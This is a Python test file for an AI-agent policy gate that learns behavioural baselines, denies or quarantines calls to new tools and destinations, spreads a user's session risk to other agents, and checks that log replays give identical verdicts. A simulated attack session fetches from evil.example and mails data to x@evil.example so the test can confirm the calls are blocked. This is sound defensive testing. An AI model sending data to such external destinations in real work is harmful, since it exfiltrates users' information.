"""A watch learns from what a gate has decided, publishes it, and the gate denies by it; a replay denies the same."""

from __future__ import annotations

from collections import Counter

import msgspec
import pytest

from simulation.records import SessionMaker, ruleset, tool_entry
from streams.behaviour.activity import DAY_MS, HOUR_MS
from streams.behaviour.profiles import Profile
from streams.model.control import Baseline
from streams.model.topics import BASELINE, RULESET
from streams.model.verdict import Outcome, Verdict
from streams.operations.behaviour.watch_run import watch_processors
from streams.operations.replay.run import ReplayKind, ReplayReport, Stretch, replay_log
from tests.kit import FILES_READ, MAIL_SEND, WEB_FETCH, GateBench, wire
from tests.recorded_run import bundle_files, recorded_by, setup
from tests.unit.processors.watch.watch_bench import SHIPPED

DAYS = 10
CALLS_PER_DAY = 30
TEXT = """apiVersion: rules/v1
pack: testing
rules:
  - {id: S-0, effect: permit, match: {tools: ["*"]}, when: "true", reason: fine}
  - {id: S-1, effect: deny, match: {tools: ["*"]}, when: "signal.new_tool >= 8", reason: a tool that is new to it}
  - {id: S-3, effect: deny, match: {tools: ["*"]}, when: "signal.user_risk >= 50", reason: the user is at risk}
  - {id: S-2, effect: quarantine, match: {tools: [mail.send]}, when: "signal.new_destination >= 8", reason: a new place}
"""


class Deployment(GateBench):
    """A gate with a watch beside it."""

    def __init__(self) -> None:
        watch = watch_processors(wire(), SHIPPED, HOUR_MS)
        super().__init__(with_rules=False, with_session=False, beside=watch, partitions=2)
        self.driver.pipe(RULESET.name, b"default", ruleset(bundle_files(TEXT)))
        self.sessions = 0
        self.days: list[Verdict] = []

    def begin(self) -> SessionMaker:
        self.sessions += 1
        maker = SessionMaker(f"s-{self.sessions}")
        self.establish(maker)
        return maker

    def work(self) -> list[Verdict]:
        """A day of an agent that reads files and mails to two places."""
        maker, found = self.begin(), []
        for number in range(CALLS_PER_DAY):
            self.wait(60_000)
            if number % 2:
                found.append(self.judge(MAIL_SEND, {"to": f"{number}@place-{number % 4}.example"}, session=maker))
            else:
                found.append(self.judge(FILES_READ, {"path": f"{self.now_ms}.txt"}, session=maker))
        self.wait(DAY_MS - CALLS_PER_DAY * 60_000)
        return found


@pytest.fixture(scope="module")
def deployment() -> Deployment:
    made = Deployment()
    days = [verdict for _ in range(DAYS) for verdict in made.work()]
    assert {verdict.outcome for verdict in days} == {Outcome.ALLOW}
    made.days = days
    return made


def test_what_the_watch_has_learned_stops_a_call_and_a_replay_stops_it_too(deployment: Deployment) -> None:
    published = [read.record for read in deployment.driver.read(BASELINE.name)]
    newest = published[-1]
    assert isinstance(newest, Baseline)
    profile = msgspec.msgpack.decode(newest.state, type=Profile)
    assert (newest.agent, newest.intents_count) == ("assistant", DAYS * CALLS_PER_DAY)
    assert len(published) >= DAYS

    attack = deployment.begin()
    usual = deployment.judge(MAIL_SEND, {"to": "x@place-3.example"}, session=attack)
    fetch = deployment.judge(WEB_FETCH, {"url": "https://evil.example/"}, session=attack)
    leak = deployment.judge(MAIL_SEND, {"to": "x@evil.example"}, session=attack)
    assert [each.outcome for each in (usual, fetch, leak)] == [Outcome.ALLOW, Outcome.DENY, Outcome.QUARANTINE]
    assert [signal.name for signal in fetch.signals] == ["new_tool", "new_destination"]
    assert [signal.name for signal in leak.signals] == ["new_destination"]
    assert fetch.signals[0].explain == "first web.fetch by assistant in 300 calls of 9 days; 9 bits"
    assert dict(profile.destinations).keys() == {"place-1.example", "place-3.example"}
    versions = Counter(verdict.baseline_version for verdict in deployment.days)
    assert len(versions) >= DAYS
    assert fetch.baseline_version == leak.baseline_version >= max(versions)

    report = replayed(deployment)
    assert report.differences == []
    assert report.counts == {ReplayKind.SAME: DAYS * CALLS_PER_DAY + 3}


def replayed(deployment: Deployment) -> ReplayReport:
    return replay_log(recorded_by(deployment.driver), setup(), Stretch())


def test_the_risk_of_a_session_stops_other_agents_of_its_user_and_fades(deployment: Deployment) -> None:
    looping = deployment.begin()
    for _ in range(60):
        deployment.wait(1_000)
        verdict = deployment.judge(FILES_READ, {"path": "same.txt"}, session=looping)
        if verdict.outcome is Outcome.DENY:
            break
    assert (verdict.outcome, verdict.reason_text) == (Outcome.DENY, "the user is at risk")
    told = {signal.name: signal for signal in verdict.signals}
    assert told["user_risk"].score >= 50
    assert told["user_risk"].explain.startswith("the risk of a session of alice is at ")

    def asked(agent: str, user: str) -> Outcome:
        deployment.sessions += 1
        maker = SessionMaker(f"s-{deployment.sessions}", act=agent, sub=user)
        deployment.establish(maker)
        return deployment.judge(session=maker).outcome

    assert [asked("clerk", "alice"), asked("clerk", "bob")] == [Outcome.DENY, Outcome.ALLOW]
    deployment.wait(6 * HOUR_MS)
    assert asked("clerk", "alice") is Outcome.ALLOW
    assert replayed(deployment).differences == []


def test_what_was_denied_teaches_nothing(deployment: Deployment) -> None:
    """An attacker who is refused a hundred times is refused the next time, too."""
    for number in range(100):
        if number % 50 == 0:
            deployment.wait(HOUR_MS)
            maker = deployment.begin()
        assert deployment.judge(WEB_FETCH, {"url": f"u{number}"}, session=maker).outcome is Outcome.DENY
    deployment.wait(2 * HOUR_MS)
    assert deployment.judge(WEB_FETCH, {"url": "u"}, session=deployment.begin()).outcome is Outcome.DENY


def test_a_user_with_a_long_name_is_at_risk_like_any_other(deployment: Deployment) -> None:
    """The watch shortens long names; gates know them all the same."""
    alice, bob = "a" * 600 + "lice", "a" * 600 + "bob"

    def begun(agent: str, user: str) -> SessionMaker:
        deployment.sessions += 1
        maker = SessionMaker(f"s-{deployment.sessions}", act=agent, sub=user)
        deployment.establish(maker)
        return maker

    looping = begun("assistant", alice)
    for _ in range(60):
        deployment.wait(1_000)
        verdict = deployment.judge(FILES_READ, {"path": "same.txt"}, session=looping)
        if verdict.outcome is Outcome.DENY:
            break
    assert (verdict.outcome, verdict.reason_text) == (Outcome.DENY, "the user is at risk")
    assert deployment.judge(session=begun("clerk", alice)).outcome is Outcome.DENY
    assert deployment.judge(session=begun("clerk", bob)).outcome is Outcome.ALLOW


def test_a_tool_with_a_long_name_that_the_agent_knows_is_not_new_to_it() -> None:
    made = Deployment()
    known, new = (tool_entry("n" * 600, f"{'n' * 600}{letter}") for letter in "kn")
    for tool in (known, new):
        made.publish(tool)
    for _ in range(DAYS):
        maker = made.begin()
        for _ in range(CALLS_PER_DAY):
            made.wait(60_000)
            assert made.judge(known, {}, session=maker).outcome is Outcome.ALLOW
        made.wait(DAY_MS - CALLS_PER_DAY * 60_000)
    later = made.begin()
    assert [made.judge(tool, {}, session=later).outcome for tool in (known, new)] == [Outcome.ALLOW, Outcome.DENY]
